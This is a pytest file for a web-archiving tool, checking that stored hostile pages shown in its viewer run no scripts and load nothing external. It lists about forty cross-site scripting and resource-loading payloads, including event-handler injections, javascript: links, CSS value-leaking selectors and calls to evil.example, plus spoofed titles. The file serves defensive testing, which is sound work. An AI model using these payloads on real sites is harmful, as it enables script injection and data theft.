"""Pages that would do harm: stored, shown in the frame, read as a story; in a real browser nothing of them runs or loads."""

from pathlib import Path
from typing import Any

import pytest
from tests import needs
from tests.serve.conftest import options, store
from tests.serve.test_browser import address, browser, page

from sitewright.maps import parse_map
from sitewright.reading.item import read_page
from sitewright.store.database import Store, open_store
from sitewright.store.entries import Collected
from sitewright.store.warc import WarcStore
from sitewright.types import Limits, Page

pytestmark = [needs.browser, pytest.mark.slow]
HARM = [
    "<script>document.title='harmed'</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=importmap>{\"imports\": {\"/static/keys.js\": \"//evil.example/x.js\"}}</script>",
    "<img src=x onerror=\"document.title='harmed'\">",
    "<img src=//evil.example/pixel>",
    "<svg onload=\"document.title='harmed'\"><script>1</script></svg>",
    "<svg><use href='//evil.example/a.svg#x'></use><image href=//evil.example/y /></svg>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:1'>x</maction></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='harmed'</script>\"></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/b) }</style>",
    "<p style=\"background: url(//evil.example/c)\">styled</p>",
    "<style>input[value^=a] { background: url(//evil.example/d) }</style>",
    "<form action=//evil.example><input name=a value=b autofocus onfocus=\"document.title='harmed'\"><button>x</button></form>",
    "<a href=\"javascript:document.title='harmed'\">link</a>",
    "<a href=//evil.example ping=//evil.example/ping>link</a>",
    "<video src=//evil.example/v autoplay poster=//evil.example/p></video>",
    "<audio src=//evil.example/a autoplay></audio>",
    "<details open ontoggle=\"document.title='harmed'\"><summary>x</summary></details>",
    "<body onload=\"document.title='harmed'\">",
    "<div id=main name=token><form id=marks></form></div>",
    "<template><script>document.title='harmed'</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='harmed'>\">",
    "<table background=//evil.example/t><tr><td background=//evil.example/u>x</table>",
    "<marquee onstart=\"document.title='harmed'\">x</marquee>",
    "<portal src=//evil.example></portal>",
    "<picture><source srcset=//evil.example/s><img srcset='//evil.example/s 2x'></picture>",
    "<input type=image src=//evil.example/i>",
    "<isindex action=//evil.example>",
    "<x-a><template shadowrootmode=open><style>:host{background:url(//evil.example/h)}</style></template></x-a>",
    "<p>]]><!--><img src=x onerror=document.title='harmed'>--></p>",
    "<textarea></textarea><img src=x onerror=document.title='harmed'></textarea>",
    "<button formaction=\"javascript:document.title='harmed'\" form=marks>x</button>",
]  # fmt: skip
TITLES = [
    "<img src=x onerror=document.title='harmed'>",
    "{{ 7*7 }}</title><script>1</script>",
    '"><svg onload=1>',
    "\u202egnp.exe",
]
PAGES = 8
"""So many pages share them: each begins with another."""
MAP = """\
sitewright: 1
site: evil.example
templates:
  - name: article
    rules:
      title: {select: [h1]}
      subtitle: {select: [h2]}
      text: {select: ["div.text > *"], many: true}
      authors: {select: [".by"], many: true}
      tags: {select: [".tag"], many: true}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Return a folder whose store holds nothing but hostile pages."""
    with (
        open_store(f"sqlite:///{tmp_path}/sitewright.db") as opened,
        WarcStore(tmp_path / "sitewright-pages") as archive,
    ):
        opened.add_site("evil.example", url="https://evil.example/")
        opened.save_map(MAP, "person")
        made = [hostile(number, "\n".join(HARM[number::PAGES])) for number in range(PAGES)]
        places = archive.append_all(made)
        opened.commit_pages(
            [
                Collected(record=read_page(Limits(), one, parse_map(MAP)).record, page=one, location=place)
                for one, place in zip(made, places, strict=True)
            ]
        )
    return tmp_path


def hostile(number: int, harm: str) -> Page:
    title = TITLES[number % len(TITLES)].replace("<", "&lt;")
    html = (
        f"<html lang=en><head>{harm}</head><h1>{title} {number}</h1><h2>{title}</h2><p class=by>{title}</p><b class=tag>{title}</b>"
        f"<div class=text><p>Words before it.</p>{harm}<p>Words behind it, number {number}.</p></div>"
    )
    return Page(url=f"https://evil.example/{number}", body=html.encode(), via="http")


def test_nothing_of_them_runs_or_loads(page: Any, store: Store) -> None:
    ids = [one.id for one in store.records()]
    assert len(ids) == PAGES
    for path in ("/", "/search?q=words", "/records", "/site/evil.example"):
        page.goto(path)
        assert "harmed" not in page.title()
    for name in ids:
        for kind in ("story", "explain"):  # which has the frame
            page.goto(f"/{kind}/evil.example/{name}")
            assert page.title() != "harmed"
            assert page.evaluate("document.querySelectorAll('main iframe:not(.page), object, embed, base').length") == 0
    page.wait_for_timeout(200)
    assert page.foreign == []


__all__ = ["address", "browser", "options", "page", "store"]
